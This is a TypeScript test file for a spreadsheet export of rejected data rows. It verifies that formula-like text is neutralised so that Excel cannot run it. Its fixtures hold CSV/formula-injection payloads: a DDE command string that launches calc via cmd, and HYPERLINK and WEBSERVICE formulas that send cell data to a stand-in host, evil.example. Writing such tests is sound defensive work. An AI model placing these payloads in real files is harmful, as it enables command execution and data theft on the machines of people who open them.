/**
 * The rejected-rows workbook the analyst opens in Excel (SPEC §10): text cells that Excel could run
 * as a formula are neutralised (header, raw cells, the problem sentence, a formula saved without its
 * value); numbers, dates and numbers typed as text stay as they were; the file holds no formula.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { looksLikeFormula } from '../../../shared/spreadsheetText';
import { prepareRun } from '../prepareRun';
import { exportRejectedWorkbook, rejectedSources } from './exportRejected';

const DOCTORS: ExcelJS.CellValue[][] = [
  ['doctor_id', 'name', 'specialty', '=notes'],
  [1, 'Dr. Plain', 'General', null],
  ['=7', 'Formula Id', '+cmd', '@SUM(A1)'],
  [-6, "\t=cmd|' /C calc'!A0", '+SUM(A1)', '-x'],
  ['-5', 'Text minus five', 'General', '-5'],
];

const APPOINTMENTS: ExcelJS.CellValue[][] = [
  ['booking_id', 'patient_id', 'doctor_id', 'booking_date', 'status'],
  [1001, 50, 1, '2025-10-21', 'confirmed'],
  [1002, 51, 1, '2025-10-22', '=1+2'],
  [1003, '-54', 1, new Date(Date.UTC(2025, 9, 22)), 'confirmed'],
  [1004, 53, 1, '=HYPERLINK("http://evil.example/?"&A1,"x")', 'cancelled'],
  // A formula saved without its value: rejected as formula_not_calculated.
  [1005, 54, 1, { formula: 'WEBSERVICE("http://evil.example/")' } as ExcelJS.CellFormulaValue, 'confirmed'],
];

let dir: string;
let exported: ExcelJS.Workbook;
let rows: number;

async function writeWorkbook(file: string, sheetName: string, data: ExcelJS.CellValue[][]): Promise<string> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet(sheetName);
  for (const row of data) sheet.addRow(row);
  await workbook.xlsx.writeFile(file);
  return file;
}

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'export-rejected-'));
  const doctors = await writeWorkbook(path.join(dir, 'doctors.xlsx'), 'Doctors', DOCTORS);
  const appointments = await writeWorkbook(path.join(dir, 'appointments.xlsx'), 'Appointments', APPOINTMENTS);
  const { report } = await prepareRun({ doctors: { path: doctors }, appointments: { path: appointments }, runDate: '2025-11-01' });
  const out = path.join(dir, 'rejected.xlsx');
  ({ rows } = await exportRejectedWorkbook(out, rejectedSources(report), report.rejected));
  exported = new ExcelJS.Workbook();
  await exported.xlsx.readFile(out);
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

function cells(sheetName: string): ExcelJS.CellValue[][] {
  const sheet = exported.getWorksheet(sheetName);
  if (!sheet) throw new Error(`no sheet ${sheetName}`);
  const out: ExcelJS.CellValue[][] = [];
  sheet.eachRow((row) => out.push(Array.from({ length: sheet.actualColumnCount }, (_, i) => row.getCell(i + 1).value)));
  return out;
}

describe('the rejected-rows workbook', () => {
  it('holds every rejected row, under a header that stays in view', () => {
    expect(rows).toBe(3 + 4);
    for (const name of ['Doctors', 'Appointments']) expect(exported.getWorksheet(name)?.views).toEqual([expect.objectContaining({ state: 'frozen', ySplit: 1 })]);
  });

  it('has no formula cell and no text Excel could run as one', () => {
    for (const name of ['Doctors', 'Appointments']) {
      for (const row of cells(name)) {
        for (const value of row) {
          expect(typeof value === 'object' && value !== null && !(value instanceof Date), `${name}: ${JSON.stringify(value)}`).toBe(false);
          if (typeof value === 'string') expect(looksLikeFormula(value), `${name}: ${JSON.stringify(value)}`).toBe(false);
        }
      }
    }
  });

  it('neutralises the header, the raw cells and the problem sentence with an apostrophe', () => {
    const doctors = cells('Doctors');
    expect(doctors[0]?.[3]).toBe("'=notes");
    const formulaId = doctors.find((row) => row[0] === "'=7");
    expect(formulaId?.slice(0, 4)).toEqual(["'=7", 'Formula Id', "'+cmd", "'@SUM(A1)"]);
    const negative = doctors.find((row) => row[0] === -6);
    expect(negative?.slice(0, 4)).toEqual([-6, "'\t=cmd|' /C calc'!A0", "'+SUM(A1)", "'-x"]);
    const appointments = cells('Appointments');
    const status = appointments.find((row) => row[0] === 1002);
    expect(status?.[4]).toBe("'=1+2");
    const link = appointments.find((row) => row[0] === 1004);
    expect(link?.[3]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"x")');
    // An uncalculated formula goes back as its text, never as a live formula.
    const formula = appointments.find((row) => row[0] === 1005);
    expect(formula?.[3]).toBe('\'=WEBSERVICE("http://evil.example/")');
  });

  it('keeps numbers, dates and numbers typed as text as they were', () => {
    const doctors = cells('Doctors');
    expect(doctors.find((row) => row[1] === 'Text minus five')?.slice(0, 4)).toEqual(['-5', 'Text minus five', 'General', '-5']);
    const appointments = cells('Appointments');
    const textMinus = appointments.find((row) => row[0] === 1003);
    expect(textMinus?.slice(0, 3)).toEqual([1003, '-54', 1]);
    expect(textMinus?.[3]).toBeInstanceOf(Date);
  });
});
